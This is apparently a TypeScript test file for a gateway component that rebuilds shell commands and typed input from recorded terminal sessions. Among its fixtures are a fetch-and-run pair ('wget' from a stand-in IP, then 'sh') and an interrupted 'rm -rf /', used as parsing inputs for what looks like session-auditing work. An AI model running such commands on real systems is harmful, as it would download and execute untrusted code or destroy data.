import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { PlainLines } from "../../gateway/evidence/plain-lines.ts";
import { ShellCommands, type ShellTold } from "../../gateway/evidence/shell-commands.ts";
import { ShellLines } from "../../gateway/evidence/shell-lines.ts";

type Stream = readonly (readonly ["i" | "o", string])[];

/** What a real shell on a real terminal was sent ("i") and sent back ("o"), one character per byte. */
function terminal(name: string): Stream {
  return JSON.parse(readFileSync(join(import.meta.dirname, "terminals", name), "utf8")) as Stream;
}

function toldOf(stream: Stream): ShellTold[] {
  const commands = new ShellCommands();
  let at = 0n;
  const lines = new ShellLines(80, (line) => commands.line(line, at));
  for (const [direction, text] of stream) {
    at += 1n;
    const bytes = Buffer.from(text, "latin1");
    if (direction === "i") lines.input(bytes, at);
    else lines.output(bytes);
  }
  lines.end();
  commands.end(undefined);
  return commands.take();
}

function linesOf(stream: Stream): [kind: string, text: string, exact?: boolean][] {
  return toldOf(stream).flatMap((one): [string, string, boolean?][] =>
    one.kind === "command-ended"
      ? []
      : [one.kind === "typed" ? [one.kind, one.text] : [one.kind, one.text, one.exact]],
  );
}

const BASH: [kind: string, text: string][] = [
  ["command", "uname -m"],
  ["command", "ls -d /tmp"], // four backspaces in it
  ["command", "ls -d /tmp"], // the same again from history
  ["command", "cat > /tmp/mbk-note"],
  ["typed", "hello there"],
  ["command", "Xecho ho hi"], // completed with Tab, then changed at its start
  ["command", 'read -s -p "Password: " x'],
  ["typed", "s3cret"],
  ["command", "sleep 1"],
  ["command", "echo ahead one"], // these two were sent while it slept
  ["command", "echo ahead two"],
  ["command", "uname -m"], // found with ^R
  ["command", `echo ${"long ".repeat(30)}end`], // over two lines of the screen
  ["command", "echo pasted"],
  ["command", "vi /tmp/mbk-note"], // keys inside of it are no commands
  ["command", "for i in 1 2\ndo echo $i\ndone"],
  ["command", "sh"],
  ["command", "echo in dash"],
  ["command", "uname -s"],
  ["command", "exit"],
  ["command", "echo h\xc3\xa9llo"], // one of two letters of two bytes taken back
  ["command", "exit"],
];

test("commands, and what programs were told, are read from a session with bash", () => {
  assert.deepEqual(
    linesOf(terminal("bash.json")).map(([kind, text]) => [kind, text]),
    BASH,
  );
});

test("the same comes out when every byte comes alone", () => {
  const bytes = terminal("bash.json").flatMap(([direction, text]) =>
    Array.from(text, (one) => [direction, one] as const),
  );
  assert.deepEqual(
    linesOf(bytes)
      .filter(([kind, , exact]) => kind === "command" && exact)
      .map(([, text]) => text)
      .slice(0, 3),
    ["uname -m", "ls -d /tmp", "cat > /tmp/mbk-note"],
  );
});

test("a shell without bracketed paste is read as well: exact where keys and echo agree", () => {
  assert.deepEqual(
    linesOf(terminal("dash-short.json")).map(([, text, exact]) => [text, exact]),
    [
      ["uname -m", true],
      ["uname -s", false], // sent before its prompt was there
      ["echo hi", true],
      ["exit", true],
    ],
  );
});

test("lines sent before any output are commands, if nothing ever says otherwise", () => {
  assert.deepEqual(linesOf([["i", "wget http://192.0.2.1/a\nsh a\n"]]), [
    ["command", "wget http://192.0.2.1/a", false],
    ["command", "sh a", false],
  ]);
});

test("an interrupted line is no command", () => {
  assert.deepEqual(
    linesOf([
      ["o", "\x1b[?2004h# "],
      ["i", "rm -rf /\x03"],
      ["o", "^C\r\n\x1b[?2004l\r"],
    ]),
    [],
  );
});

test("without a terminal, lines are what lies between line feeds", () => {
  const lines = new PlainLines();
  assert.deepEqual(lines.input(Buffer.from("id\r\nuname")), [{ text: "id", exact: true }]);
  assert.deepEqual(lines.input(Buffer.from(" -a")), []);
  assert.deepEqual(lines.end(), [{ text: "uname -a", exact: true }]);
  lines.input(Buffer.alloc(1_500_000, "a"));
  assert.deepEqual(
    lines.input(Buffer.from("b\n")).map(({ text, exact }) => [text.length, exact]),
    [[1_048_576, false]],
  );
});

test("endless lines in both directions are cut", () => {
  const stream: [direction: "i" | "o", text: string][] = [["o", "\x1b[?2004h$ "]];
  for (let round = 0; round < 100; round++) stream.push(["i", "a".repeat(4096)], ["o", "a".repeat(4096)]);
  const [line] = linesOf([...stream, ["i", "\r"]]);
  assert.deepEqual([line?.[1].length, line?.[2]], [65_536, false]);
});
